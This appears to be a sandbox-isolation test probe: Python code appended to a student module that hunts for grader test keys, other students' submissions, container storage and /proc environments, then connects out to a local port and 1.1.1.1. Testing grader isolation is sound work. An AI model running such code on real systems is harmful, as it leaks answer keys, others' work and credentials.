
# ---- attack (appended to a student module): read what the grader keeps from the sandbox ----------
# During the answer step, for __SECONDS__ s, while other gradings run on the same machine: read the
# reference solution, the test key, other students' submissions and checkpoints, the trusted side's
# results and logs, wherever a grading of this machine keeps them (the runner's folders, the TA
# commands' temporary folders, the container engines' storage, where other containers' files live);
# look into other processes; reach the network. Everything found goes into the feedback (a probe's
# error message), where the student would read it.
import glob as _spy_glob
import json as _spy_json
import os as _spy_os
import socket as _spy_socket
import sys as _spy_sys
import time as _spy_time

_SPY_PORT = __PORT__  # a TCP server of the test, on 127.0.0.1 outside the sandbox
_SPY_SECONDS = __SECONDS__
_SPY_SECRETS = [
    "work/trusted/proj4_code/*.py", "work/trusted/tmp/*.json", "work/trusted/prepared/*",
    "source/grader/trusted_code/proj4_code/*.py", "source/grader/test_key.json", "source/grader/config.json",
    "work/code/proj4_code/*.py", "work/model_output/*.pt", "submission/*", "submission/*/*",
    "results/results.json", "run_autograder.log", "work/answers/answers.json", "work/public/events.jsonl",
]
_SPY_ROOTS = ["/tmp/proj4-grading-*/*/autograder", "/tmp/proj4-*/*/autograder", "/tmp/proj4-*/autograder",
              "/var/lib/containers/storage/overlay/*/merged/autograder",
              "/var/lib/containers/storage/overlay/*/diff/autograder", "/var/lib/docker/overlay2/*/merged/autograder",
              "/var/lib/docker/overlay2/*/diff/autograder", "/autograder"]
_SPY_HOST = ["/tmp/proj4-*/submission/*", "/tmp/proj4-*/files/*", "/tmp/proj4-*/out/*", "/tmp/proj4-*/results/*",
             "/tmp/proj4-*/*/*.json", "/var/lib/containers/storage/overlay-containers/*/userdata/*"]


def _spy_run():
    own = _spy_os.path.realpath(".").split("/work/")[0]
    read, others = {}, set()
    end = _spy_time.time() + _SPY_SECONDS
    while _spy_time.time() < end:
        roots = {r for pattern in _SPY_ROOTS for r in _spy_glob.glob(pattern)}
        for root in roots:
            if _spy_os.path.realpath(root) == own:
                continue
            others.add(root)
            for pattern in _SPY_SECRETS:
                for path in _spy_glob.glob(f"{root}/{pattern}"):
                    if path not in read:
                        try:
                            with open(path, "rb") as f:
                                if f.read(64):
                                    read[path] = True
                        except OSError:
                            pass
        for pattern in _SPY_HOST:  # the TA commands' own folders and the engine's records of other containers
            for path in _spy_glob.glob(pattern):
                if path not in read and _spy_os.path.isfile(path):
                    try:
                        with open(path, "rb") as f:
                            if f.read(64):
                                read[path] = True
                    except OSError:
                        pass
        _spy_time.sleep(0.05)
    proc = 0
    for entry in _spy_os.listdir("/proc"):
        if entry.isdigit() and int(entry) != _spy_os.getpid():
            for name in ("environ", "cwd/answers.json", "root/autograder/source/grader/test_key.json"):
                try:
                    with open(f"/proc/{entry}/{name}", "rb") as f:
                        if f.read(1) and _spy_os.stat(f"/proc/{entry}").st_uid != _spy_os.getuid():
                            proc += 1
                except OSError:
                    pass
    net = {}
    for where, address in (("local", ("127.0.0.1", _SPY_PORT)), ("remote", ("1.1.1.1", 80))):
        try:
            with _spy_socket.create_connection(address, timeout=2) as s:
                s.sendall(b"ADV-EXFILTRATED")
                net[where] = "connected"
        except OSError as err:
            net[where] = type(err).__name__
    report = {"n_read": len(read), "others_seen": len(others), "proc": proc, "net": net,
              "read": sorted(p.split("/autograder/", 1)[-1] for p in read)[:4]}
    print("SPY-REPORT " + _spy_json.dumps(report), flush=True)
    raise RuntimeError("SPY-REPORT " + _spy_json.dumps(report))


if _spy_sys.argv and _spy_sys.argv[0].endswith("answers.py") and not _spy_os.path.exists("spy-once"):
    open("spy-once", "w").close()
    _spy_run()
